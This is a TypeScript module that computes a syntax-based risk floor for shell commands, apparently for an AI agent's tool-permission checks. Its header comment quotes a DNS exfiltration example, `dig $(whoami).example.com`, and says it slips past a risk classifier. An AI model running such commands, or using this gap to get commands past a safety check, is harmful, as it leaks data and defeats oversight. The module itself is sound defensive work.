// The deterministic risk floor for text that would reach a shell (DESIGN §2, the reference's
// findDeterministicHighRisk). Syntax only, no program names: an unterminated quote or construct,
// text that does not parse, command or process substitution, a redirection other than to
// /dev/null or a descriptor duplication, or a command word built from an expansion makes the
// script `high-risk`, whatever was declared or any later judgement says. The floor never lowers a
// level: `dig $(whoami).example.com` reads as harmless to a classifier and exfiltrates via DNS.
//
// Pure: it reads the plain data of one parse (shell-syntax.ts), handed in by the caller.
import type { ShellRedirect, ShellScan } from "./syntax.ts";

/** The risk levels, lowest first (the same union as policy/tools.ts's `Risk`; the reader is a leaf). */
export type Risk = "read-only" | "low-risk" | "high-risk" | "unknown";

export type ShellRiskFloor = {
  /** The declared level, raised to `high-risk` when any reason was found; never lower. */
  readonly level: Risk;
  /** Why the floor applies; empty when it does not. */
  readonly reasons: readonly string[];
};

/** Longer scripts are not parsed at all: they are high-risk by length. */
export const maxScriptChars = 64 * 1024;

const riskOrder: readonly Risk[] = ["read-only", "low-risk", "high-risk", "unknown"];

/** The higher of two levels (`unknown` is above `high-risk`). */
export function raiseRisk(a: Risk, b: Risk): Risk {
  return riskOrder.indexOf(a) >= riskOrder.indexOf(b) ? a : b;
}

const fileRedirectOps = new Set([">", ">>", ">|", "&>", "&>>", "<", "<>"]);
const duplicateOps = new Set([">&", "<&"]);

function isHarmlessRedirect(redirect: ShellRedirect): boolean {
  const { op, target } = redirect;
  if (op === ">&-" || op === "<&-") return true; // closing a descriptor
  if (target === undefined || target.expansions.length > 0 || target.text === "") return false;
  if (fileRedirectOps.has(op)) return target.text === "/dev/null";
  if (duplicateOps.has(op)) return /^([0-9]+|-)$/.test(target.text);
  return false;
}

function describeRedirect(redirect: ShellRedirect): string {
  const target = redirect.target?.text ?? "";
  return `${redirect.fd ?? ""}${redirect.op}${target.length > 60 ? `${target.slice(0, 60)}…` : target}`;
}

/** The floor for one parsed script against the `declared` level. */
export function floorShellScan(scan: ShellScan, declared: Risk): ShellRiskFloor {
  const reasons = new Set<string>(scan.problems);
  if (scan.expansions.has("command")) reasons.add("command substitution");
  if (scan.expansions.has("process")) reasons.add("process substitution");
  for (const command of scan.commands) {
    for (const redirect of command.redirects) {
      if (!isHarmlessRedirect(redirect)) reasons.add(`redirection ${describeRedirect(redirect)}`);
    }
    const first = command.words[0];
    if (command.keyword === undefined && first !== undefined && first.expansions.length > 0) {
      reasons.add(`command word built from an expansion (${first.text.slice(0, 60)})`);
    }
  }
  return {
    level: reasons.size > 0 ? raiseRisk(declared, "high-risk") : declared,
    reasons: [...reasons],
  };
}

/** The floor for text too long to read. */
export function floorTooLong(declared: Risk): ShellRiskFloor {
  return {
    level: raiseRisk(declared, "high-risk"),
    reasons: [`longer than ${maxScriptChars} characters, too long to analyse`],
  };
}
